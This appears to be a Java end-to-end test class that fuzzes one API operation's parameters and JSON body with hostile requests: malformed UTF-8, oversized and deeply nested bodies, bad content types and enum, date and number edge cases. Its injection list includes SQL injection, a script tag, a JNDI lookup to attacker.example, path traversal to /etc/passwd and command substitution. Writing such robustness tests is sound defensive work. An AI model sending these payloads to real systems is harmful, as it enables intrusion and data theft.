package org.ogi.e2e;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

/**
 * Hostile requests for one operation of an OpenAPI document: a valid request built from its schemas, then each
 * parameter and each body field spoiled in turn (wrong types, missing and extra fields, huge, control and
 * malformed text, injection strings, impossible and extreme dates), the body as a whole (malformed JSON, wrong
 * content types, over the size limit), and the target (bad escapes, over-long). The random parts come from the
 * seed, so a run can be repeated exactly.
 */
final class HostileRequests {

    /** What a case may be answered with, besides never a 5xx and every 4xx with a problem body. */
    enum Kind {
        /** Anything else: the value may be fine (an injection string is just text). */
        ANSWERED,
        /** Must be refused with a 4xx: malformed text, or an enum by position, would be stored altered. */
        REFUSED,
        /** A body over the limit: the server may close the connection before it has read the whole request. */
        OVERSIZED
    }

    /** One request and the name of what it tries, for the report. */
    record Case(String name, RawHttp.Request request, Kind kind) {}

    /** A JSON escape of a control character other than tab and line breaks, or of a lone surrogate. */
    private static final Pattern MALFORMED_ESCAPE =
            Pattern.compile("\\\\u(000[0-8bcefBCEF]|001[0-9a-fA-F]|007[fF]|[dD][89a-fA-F][0-9a-fA-F]{2})");

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final String MARKER = "\u0001hostile\u0001";
    private static final String JSON_TYPE = "application/json";
    /** Above every service's body limit (Quarkus' default 10 MiB, intake's 12 MiB). */
    private static final long OVERSIZED_BYTES = 13L * 1024 * 1024;

    /** Values that stand for a valid one where the schema alone does not give it, by parameter or field name. */
    private static final Map<String, String> KNOWN_VALUES = Map.ofEntries(
            Map.entry("agency", "A"),
            Map.entry("code", "A"),
            Map.entry("channel", "IN_PERSON"),
            Map.entry("idNumber", "11010519491231002X"),
            Map.entry("phone", "13800138000"),
            Map.entry("email", "zhangsan@example.cn"),
            Map.entry("queue", "awaiting-acceptance"),
            Map.entry("year", "2199"),
            Map.entry("type", "NATURAL_PERSON"),
            Map.entry("form", "ELECTRONIC"),
            Map.entry("method", "EMAIL"),
            Map.entry("deliveryMethod", "EMAIL"));

    private static final List<String> INJECTIONS = List.of(
            "' OR '1'='1' --",
            "\"; DROP TABLE information_request; --",
            "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/a}",
            "{{7*7}}#{7*7}",
            "../../../../etc/passwd",
            "$(id)`id`",
            "\\\\attacker\\share",
            "%s%s%s%n",
            "A-2026-000001' UNION SELECT 1 --");

    /** Raw JSON values for a string field; invalid UTF-8 as raw bytes. */
    private static final Map<String, byte[]> STRING_VALUES = rawValues(Map.ofEntries(
            Map.entry("huge string", quoted("长".repeat(70_000))),
            Map.entry("NUL escape", "\"a\\u0000b\""),
            Map.entry("control escapes", "\"a\\u0007\\u001b[31mb\\u007f\""),
            Map.entry("raw control byte", "\"a\u0001b\""),
            Map.entry("lone high surrogate", "\"a\\ud800b\""),
            Map.entry("lone low surrogate", "\"\\udc00\""),
            Map.entry("right-to-left override", "\"abc\\u202edef\""),
            Map.entry("empty", "\"\""),
            Map.entry("blank", "\"   \""),
            Map.entry("number", "12"),
            Map.entry("object", "{\"a\":1}"),
            Map.entry("array", "[\"a\"]")));

    private static final Map<String, byte[]> INVALID_UTF8 = Map.of(
            "overlong UTF-8 slash", new byte[] {'"', 'a', (byte) 0xC0, (byte) 0xAF, 'b', '"'},
            "invalid UTF-8 byte", new byte[] {'"', (byte) 0xFF, (byte) 0xFE, '"'},
            "UTF-8 encoded surrogate", new byte[] {'"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"'},
            "truncated UTF-8", new byte[] {'"', 'a', (byte) 0xE4, (byte) 0xB8, '"'});
    /** Values that would be stored altered if accepted; the rest of the text cases escape as JSON. */
    private static final Set<String> MUST_REFUSE = Set.of(
            "overlong UTF-8 slash",
            "invalid UTF-8 byte",
            "UTF-8 encoded surrogate",
            "truncated UTF-8",
            "enum by position");

    private static final Map<String, byte[]> DATE_VALUES = rawValues(Map.of(
            "impossible date",
            "\"2026-02-30\"",
            "extreme future date",
            "\"+999999999-12-31\"",
            "extreme past date",
            "\"-999999999-01-01\"",
            "year zero",
            "\"0000-00-00\"",
            "five-digit year",
            "\"10000-01-01\"",
            "short date",
            "\"2026-1-1\"",
            "date-time",
            "\"2026-03-02T10:00:00+08:00\"",
            "number date",
            "20260302"));
    private static final Map<String, byte[]> NUMBER_VALUES = rawValues(Map.of(
            "above int",
            "2147483648",
            "below int",
            "-2147483649",
            "above long",
            "9223372036854775808",
            "huge exponent",
            "1e400",
            "fraction",
            "1.5",
            "numeric string",
            "\"1\"",
            "negative",
            "-1",
            "zero",
            "0",
            "text",
            "\"abc\""));
    private static final Map<String, byte[]> ENUM_VALUES = rawValues(Map.of(
            "enum by position",
            "1",
            "enum in lower case",
            "\"lowercase\"",
            "unknown enum",
            "\"NOT_A_CONSTANT\"",
            "empty enum",
            "\"\""));
    private static final Map<String, byte[]> ANY_VALUES = rawValues(Map.of(
            "null",
            "null",
            "boolean",
            "true",
            "array of null",
            "[null]",
            "deep array",
            "[".repeat(3000) + "]".repeat(3000)));
    private static final Map<String, String> MALFORMED_BODIES = Map.ofEntries(
            Map.entry("empty body", ""),
            Map.entry("unclosed object", "{"),
            Map.entry("missing value", "{\"a\":}"),
            Map.entry("trailing comma", "{\"a\":1,}"),
            Map.entry("two documents", "{} {}"),
            Map.entry("bare word", "nul"),
            Map.entry("JSON null", "null"),
            Map.entry("JSON string", "\"text\""),
            Map.entry("JSON array", "[]"),
            Map.entry("JSON number", "123"),
            Map.entry("single quotes", "{'a':1}"),
            Map.entry("deep nesting", "{\"a\":".repeat(5000) + "1" + "}".repeat(5000)),
            Map.entry("comment", "/* c */ {}"),
            Map.entry("byte order mark", "\uFEFF{}"));
    private static final Map<String, String> BAD_PATH_VALUES = Map.ofEntries(
            Map.entry("NUL", "%00"),
            Map.entry("NUL inside", "a%00b"),
            Map.entry("malformed escape", "%zz"),
            Map.entry("half escape", "%4"),
            Map.entry("overlong UTF-8 slash", "%C0%AF"),
            Map.entry("encoded surrogate", "%ED%A0%80"),
            Map.entry("invalid UTF-8", "%FF%FE"),
            Map.entry("traversal", "..%2F..%2Fetc%2Fpasswd"),
            Map.entry("injection", "'%20OR%20'1'='1"),
            Map.entry("long segment", "9".repeat(4000)),
            Map.entry("negative", "-1"),
            Map.entry("huge number", "99999999999999999999999"),
            Map.entry("extreme date", "%2B999999999-12-31"),
            Map.entry("control character", "%07%1B"),
            Map.entry("unicode", "%E9%95%BF%E2%80%AE"),
            Map.entry("empty", ""));
    private static final Map<String, String> BAD_QUERY_VALUES = Map.ofEntries(
            Map.entry("NUL inside", "a%00b"),
            Map.entry("malformed escape", "%zz"),
            Map.entry("invalid UTF-8", "%FF%FE"),
            Map.entry("encoded surrogate", "%ED%A0%80"),
            Map.entry("control characters", "%07%1B%7F"),
            Map.entry("huge value", "x".repeat(6000)),
            Map.entry("injection", "'%20OR%20'1'='1"),
            Map.entry("empty", ""),
            Map.entry("above int", "2147483648"),
            Map.entry("negative", "-1"),
            Map.entry("text", "abc"),
            Map.entry("impossible date", "2026-02-30"),
            Map.entry("extreme date", "%2B999999999-12-31"),
            Map.entry("extreme past date", "-999999999-01-01"),
            Map.entry("five-digit year", "10000-01-01"));
    private static final Map<String, String> BAD_HEADER_VALUES = Map.of(
            "long header",
            "k".repeat(300),
            "space in header",
            "a b",
            "non-ASCII header",
            "\u00e9\u00bf",
            "quoted header",
            "\"1\"",
            "negative header",
            "-1",
            "huge number header",
            "99999999999999999999");
    private static final Map<String, String> WRONG_CONTENT_TYPES = Map.of(
            "text/plain",
            "text/plain",
            "XML",
            "application/xml",
            "form",
            "application/x-www-form-urlencoded",
            "multipart without boundary",
            "multipart/form-data",
            "UTF-16 JSON",
            "application/json; charset=UTF-16",
            "garbage content type",
            "%%%/;;;",
            "JSON with parameters",
            "application/json; charset=\u00ff");

    private final Random random;

    HostileRequests(long seed) {
        this.random = new Random(seed);
    }

    /**
     * @param pathValues   valid values for the path parameters, by name; others come from the schema
     * @param authorization the Authorization header to send with every case
     */
    List<Case> of(ApiOperations.Operation operation, Map<String, String> pathValues, String authorization) {
        Target valid = new Target(operation, pathValues);
        List<Case> cases = new ArrayList<>();
        Base base = new Base(operation, valid, authorization);
        for (ApiOperations.Parameter parameter : operation.parameters("path")) {
            BAD_PATH_VALUES.forEach((name, value) -> cases.add(base.named(
                    "path " + parameter.name() + ": " + name,
                    base.request(valid.withPath(parameter.name(), value).text()))));
        }
        for (ApiOperations.Parameter parameter : operation.parameters("query")) {
            BAD_QUERY_VALUES.forEach((name, value) -> cases.add(base.named(
                    "query " + parameter.name() + ": " + name,
                    base.request(valid.withQuery(parameter.name(), value).text()))));
            // Alone too: with the others set, a check of their combination may refuse it first.
            BAD_QUERY_VALUES.forEach((name, value) -> cases.add(base.named(
                    "query " + parameter.name() + " alone: " + name,
                    base.request(valid.onlyQuery(parameter.name(), value).text()))));
        }
        for (ApiOperations.Parameter parameter : operation.parameters("header")) {
            BAD_HEADER_VALUES.forEach((name, value) -> cases.add(base.named(
                    "header " + parameter.name() + ": " + name,
                    base.request(valid.text()).header(parameter.name(), value))));
        }
        cases.add(base.named(
                "unknown query parameters",
                base.request(valid.text() + separator(valid.text()) + "__proto__=1&%zz=1&page=-1&size=1000000")));
        cases.add(base.named(
                "over-long URI", base.request(valid.text() + separator(valid.text()) + "q=" + "a".repeat(70_000))));
        cases.add(base.named(
                "malformed escape in query", base.request(valid.text() + separator(valid.text()) + "a=%zz%")));
        cases.add(base.named("huge header", base.request(valid.text()).header("X-Filler", "a".repeat(30_000))));
        cases.add(base.named("unacceptable Accept", base.request(valid.text()).header("Accept", "text/html")));
        cases.add(base.named(
                "undeclared method",
                RawHttp.Request.of("DELETE", valid.text()).header("Authorization", authorization)));
        operation.bodySchema().ifPresent(schema -> cases.addAll(bodyCases(operation, schema, base)));
        return cases;
    }

    private List<Case> bodyCases(ApiOperations.Operation operation, JsonNode schema, Base base) {
        List<Case> cases = new ArrayList<>();
        String type = operation.bodyType().orElseThrow();
        if (!type.contains("json")) {
            // A binary upload: spoil only its size and type, the bytes are the applicant's.
            cases.add(base.named(
                    "empty upload", base.request(base.target()).body("application/octet-stream", new byte[0])));
            cases.add(base.named(
                    "oversized declared body",
                    base.request(base.target())
                            .header("Content-Length", Long.toString(OVERSIZED_BYTES * 100))
                            .header("Content-Type", "application/pdf"),
                    true));
            cases.add(base.named(
                    "oversized chunked body",
                    base.request(base.target()).chunked("application/pdf", OVERSIZED_BYTES),
                    true));
            return cases;
        }
        JsonNode valid = sample(operation, schema, "", 0);
        cases.add(base.named("valid body", base.json(bytes(valid))));
        MALFORMED_BODIES.forEach(
                (name, body) -> cases.add(base.named(name, base.json(body.getBytes(StandardCharsets.UTF_8)))));
        WRONG_CONTENT_TYPES.forEach((name, contentType) -> cases.add(
                base.named("content type " + name, base.request(base.target()).body(contentType, bytes(valid)))));
        cases.add(base.named("no content type", base.request(base.target()).withoutContentType(bytes(valid))));
        cases.add(base.named(
                "Latin-1 JSON",
                base.request(base.target())
                        .body(
                                "application/json; charset=ISO-8859-1",
                                "{\"comment\":\"caf\u00e9\"}".getBytes(StandardCharsets.ISO_8859_1))));
        cases.add(base.named(
                "oversized declared body",
                base.request(base.target())
                        .header("Content-Length", Long.toString(OVERSIZED_BYTES * 100))
                        .header("Content-Type", JSON_TYPE),
                true));
        cases.add(base.named(
                "oversized chunked body", base.request(base.target()).chunked(JSON_TYPE, OVERSIZED_BYTES), true));
        if (valid instanceof ObjectNode object) {
            ObjectNode extra = object.deepCopy();
            extra.put("unexpectedField", "x");
            extra.putObject("__proto__").put("polluted", true);
            cases.add(base.named("extra fields", base.json(bytes(extra))));
            String text = bytes(object).length > 2 ? new String(bytes(object), StandardCharsets.UTF_8) : "{}";
            cases.add(base.named(
                    "duplicate keys",
                    base.json(("{\"comment\":\"a\",\"comment\":\"b\"," + text.substring(1))
                            .getBytes(StandardCharsets.UTF_8))));
            cases.add(base.named("all fields missing", base.json("{}".getBytes(StandardCharsets.UTF_8))));
            for (String required : requiredFields(operation, schema)) {
                ObjectNode missing = object.deepCopy();
                missing.remove(required);
                cases.add(base.named("missing " + required, base.json(bytes(missing))));
            }
            for (List<String> field : fields(object, new ArrayList<>())) {
                JsonNode fieldSchema = schemaAt(operation, schema, field);
                for (Map.Entry<String, byte[]> value :
                        valuesFor(operation, fieldSchema).entrySet()) {
                    boolean refused = MUST_REFUSE.contains(value.getKey())
                            || MALFORMED_ESCAPE
                                    .matcher(new String(value.getValue(), StandardCharsets.ISO_8859_1))
                                    .find();
                    cases.add(new Case(
                            "field " + String.join(".", field) + ": " + value.getKey(),
                            base.json(replace(object, field, value.getValue())),
                            refused ? Kind.REFUSED : Kind.ANSWERED));
                }
            }
        }
        return cases;
    }

    private Map<String, byte[]> valuesFor(ApiOperations.Operation operation, JsonNode fieldSchema) {
        JsonNode schema = operation.resolve(fieldSchema);
        Map<String, byte[]> values = new TreeMap<>(ANY_VALUES);
        String type = schema.path("type").asText();
        if (schema.has("enum")) {
            values.putAll(ENUM_VALUES);
        } else if (schema.path("format").asText().equals("date")) {
            values.putAll(DATE_VALUES);
        } else if (type.equals("integer") || type.equals("number")) {
            values.putAll(NUMBER_VALUES);
        } else if (type.equals("string")) {
            values.putAll(STRING_VALUES);
            values.putAll(INVALID_UTF8);
            String injection = INJECTIONS.get(random.nextInt(INJECTIONS.size()));
            values.put("injection " + injection, quoted(injection).getBytes(StandardCharsets.UTF_8));
            values.put("random text", randomText());
        } else if (type.equals("array")) {
            ArrayNode many = NODES.arrayNode();
            JsonNode item = sample(operation, schema.path("items"), "", 1);
            for (int i = 0; i < 2000; i++) {
                many.add(item);
            }
            values.put("2000 items", bytes(many));
            values.put("items of the wrong type", "[1, {}, true]".getBytes(StandardCharsets.UTF_8));
        } else if (type.equals("boolean")) {
            values.put("string boolean", "\"yes\"".getBytes(StandardCharsets.UTF_8));
            values.put("number boolean", "1".getBytes(StandardCharsets.UTF_8));
        }
        return values;
    }

    /** A JSON string of random code points, with control characters and lone surrogates among them. */
    private byte[] randomText() {
        StringBuilder text = new StringBuilder("\"");
        int length = 1 + random.nextInt(40);
        for (int i = 0; i < length; i++) {
            int kind = random.nextInt(5);
            int codePoint = switch (kind) {
                case 0 -> random.nextInt(0x20);
                case 1 -> 0xD800 + random.nextInt(0x800);
                case 2 -> 0x4E00 + random.nextInt(0x5000);
                case 3 -> 0x10000 + random.nextInt(0x1000);
                default -> 0x20 + random.nextInt(0x5F);
            };
            if (codePoint < 0x20
                    || (codePoint >= 0xD800 && codePoint < 0xE000)
                    || codePoint == '"'
                    || codePoint == '\\') {
                text.append(String.format("\\u%04x", codePoint));
            } else {
                text.appendCodePoint(codePoint);
            }
        }
        return text.append('"').toString().getBytes(StandardCharsets.UTF_8);
    }

    /** A valid value for the schema: every property set, enums at their first constant, known names filled in. */
    static JsonNode sample(ApiOperations.Operation operation, JsonNode rawSchema, String name, int depth) {
        JsonNode schema = operation.resolve(rawSchema);
        if (KNOWN_VALUES.containsKey(name)) {
            String known = KNOWN_VALUES.get(name);
            return schema.path("type").asText().equals("integer")
                    ? NODES.numberNode(Long.parseLong(known))
                    : NODES.textNode(known);
        }
        if (schema.has("enum")) {
            return schema.get("enum").get(0);
        }
        switch (schema.path("type").asText()) {
            case "object" -> {
                ObjectNode object = NODES.objectNode();
                if (depth < 4) {
                    schema.path("properties")
                            .properties()
                            .forEach(property -> object.set(
                                    property.getKey(),
                                    sample(operation, property.getValue(), property.getKey(), depth + 1)));
                }
                return object;
            }
            case "array" -> {
                ArrayNode array = NODES.arrayNode();
                array.add(sample(operation, schema.path("items"), name, depth + 1));
                return array;
            }
            case "integer", "number" -> {
                long value = Math.max(schema.path("minimum").asLong(1), 1);
                return NODES.numberNode(
                        schema.has("maximum")
                                ? Math.min(value, schema.get("maximum").asLong())
                                : value);
            }
            case "boolean" -> {
                return NODES.booleanNode(false);
            }
            default -> {
                return switch (schema.path("format").asText()) {
                    case "date" -> NODES.textNode("2026-03-02");
                    case "date-time" -> NODES.textNode("2026-03-02T10:00:00+08:00");
                    case "uuid" -> NODES.textNode("7d444840-9dc0-11d1-b245-5ffdce74fad2");
                    default -> NODES.textNode("示例文字");
                };
            }
        }
    }

    static String pathValue(ApiOperations.Operation operation, ApiOperations.Parameter parameter) {
        JsonNode value = sample(operation, parameter.schema(), parameter.name(), 0);
        return URLEncoder.encode(value.asText(), StandardCharsets.UTF_8);
    }

    private static List<String> requiredFields(ApiOperations.Operation operation, JsonNode schema) {
        List<String> required = new ArrayList<>();
        operation.resolve(schema).path("required").forEach(field -> required.add(field.asText()));
        return required;
    }

    /** The paths of every field of the object, nested objects' fields too (arrays count as one field). */
    private static List<List<String>> fields(JsonNode object, List<String> prefix) {
        List<List<String>> fields = new ArrayList<>();
        for (Map.Entry<String, JsonNode> field : object.properties()) {
            List<String> path = new ArrayList<>(prefix);
            path.add(field.getKey());
            fields.add(path);
            if (field.getValue().isObject()) {
                fields.addAll(fields(field.getValue(), path));
            }
        }
        return fields;
    }

    private static JsonNode schemaAt(ApiOperations.Operation operation, JsonNode schema, List<String> field) {
        JsonNode current = schema;
        for (String name : field) {
            current = operation.resolve(current).path("properties").path(name);
        }
        return current;
    }

    /** The object with the field's value replaced by raw JSON bytes (which may be malformed on purpose). */
    private static byte[] replace(ObjectNode object, List<String> field, byte[] raw) {
        ObjectNode copy = object.deepCopy();
        ObjectNode parent = copy;
        for (String name : field.subList(0, field.size() - 1)) {
            parent = (ObjectNode) parent.get(name);
        }
        parent.put(field.get(field.size() - 1), MARKER);
        byte[] text = bytes(copy);
        byte[] marker = bytes(NODES.textNode(MARKER));
        int at = RawHttp.indexOf(text, marker);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(text, 0, at);
        out.writeBytes(raw);
        out.write(text, at + marker.length, text.length - at - marker.length);
        return out.toByteArray();
    }

    private static byte[] bytes(JsonNode node) {
        try {
            return JSON.writeValueAsBytes(node);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String quoted(String text) {
        return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }

    private static Map<String, byte[]> rawValues(Map<String, String> values) {
        return values.entrySet().stream()
                .collect(Collectors.toMap(
                        Map.Entry::getKey, entry -> entry.getValue().getBytes(StandardCharsets.UTF_8)));
    }

    private static String separator(String target) {
        return target.contains("?") ? "&" : "?";
    }

    /** The valid target of an operation: path parameters filled in, query parameters at valid values. */
    private static final class Target {

        private final ApiOperations.Operation operation;
        private final Map<String, String> path = new LinkedHashMap<>();
        private final Map<String, String> query = new LinkedHashMap<>();

        Target(ApiOperations.Operation operation, Map<String, String> pathValues) {
            this.operation = operation;
            for (ApiOperations.Parameter parameter : operation.parameters("path")) {
                path.put(parameter.name(), pathValues.getOrDefault(parameter.name(), pathValue(operation, parameter)));
            }
            for (ApiOperations.Parameter parameter : operation.parameters("query")) {
                query.put(parameter.name(), pathValues.getOrDefault(parameter.name(), pathValue(operation, parameter)));
            }
        }

        private Target(Target other) {
            this.operation = other.operation;
            this.path.putAll(other.path);
            this.query.putAll(other.query);
        }

        Target withPath(String name, String value) {
            Target copy = new Target(this);
            copy.path.put(name, value);
            return copy;
        }

        Target onlyQuery(String name, String value) {
            Target copy = new Target(this);
            copy.query.clear();
            copy.query.put(name, value);
            return copy;
        }

        Target withQuery(String name, String value) {
            Target copy = new Target(this);
            copy.query.put(name, value);
            return copy;
        }

        String text() {
            String target = operation.path();
            for (Map.Entry<String, String> parameter : path.entrySet()) {
                target = target.replace("{" + parameter.getKey() + "}", parameter.getValue());
            }
            if (!query.isEmpty()) {
                target += "?"
                        + query.entrySet().stream()
                                .map(entry -> entry.getKey() + "=" + entry.getValue())
                                .collect(Collectors.joining("&"));
            }
            return target;
        }
    }

    /** What every case of one operation shares: method, valid target and credentials. */
    private record Base(ApiOperations.Operation operation, Target valid, String authorization) {

        String target() {
            return valid.text();
        }

        RawHttp.Request request(String target) {
            RawHttp.Request request = RawHttp.Request.of(operation.method(), target)
                    .header("Authorization", authorization)
                    .header("Accept", "application/json, application/problem+json, application/pdf");
            if (operation.bodyType().filter(type -> type.contains("json")).isPresent()) {
                request = request.body(
                        JSON_TYPE,
                        bytes(sample(operation, operation.bodySchema().orElseThrow(), "", 0)));
            }
            return request;
        }

        RawHttp.Request json(byte[] body) {
            return request(target()).body(JSON_TYPE, body);
        }

        Case named(String name, RawHttp.Request request) {
            return new Case(name, request, Kind.ANSWERED);
        }

        Case named(String name, RawHttp.Request request, boolean oversized) {
            return new Case(name, request, oversized ? Kind.OVERSIZED : Kind.ANSWERED);
        }
    }
}
